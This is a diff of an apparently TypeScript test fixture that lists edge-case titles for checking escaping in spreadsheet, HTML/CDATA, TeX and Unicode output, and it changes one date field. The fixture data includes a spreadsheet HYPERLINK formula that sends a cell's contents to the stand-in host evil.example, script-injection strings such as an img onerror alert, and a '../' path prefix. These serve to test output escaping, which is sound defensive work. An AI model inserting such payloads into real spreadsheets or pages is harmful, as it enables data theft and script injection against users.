@@ -31,7 +31,7 @@ const titles: [id: string, date: string, title: string][] = [
   ['a-formula', '-0043', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
   ['b-cdata', '1991~', ']]> </script><script>alert(1)</script> ]]> <![CDATA[ --> &amp; &lt; &#x3C;'],
   ['c-tex', '2010-04', '100% of $5 & #1_2 {a {b \\c} ~d^e "f" ’g’ %00 \\textbf{h}'],
-  ['d-right-to-left', '../2020-10-08', 'قال القيصر: «مرحبا, 5%» (שלום)'],
+  ['d-right-to-left', '[..2020-10-08]', 'قال القيصر: «مرحبا, 5%» (שלום)'],
   ['e-emoji', '2020-10-05T18:30+06:00', '👩‍👩‍👧 🇳🇵 Ңү ө — café, ① 𝔘𝔫𝔦𝔠𝔬𝔡𝔢'],
   ['f-plus', '2020-10-04/2020-10-05', '+1;"2",\'3\' | 4\\n5'],
   ['g-minus', '2020-10/2020-10-06', '-2+3 <b>bold</b> & <img src=x onerror=alert(1)>'],
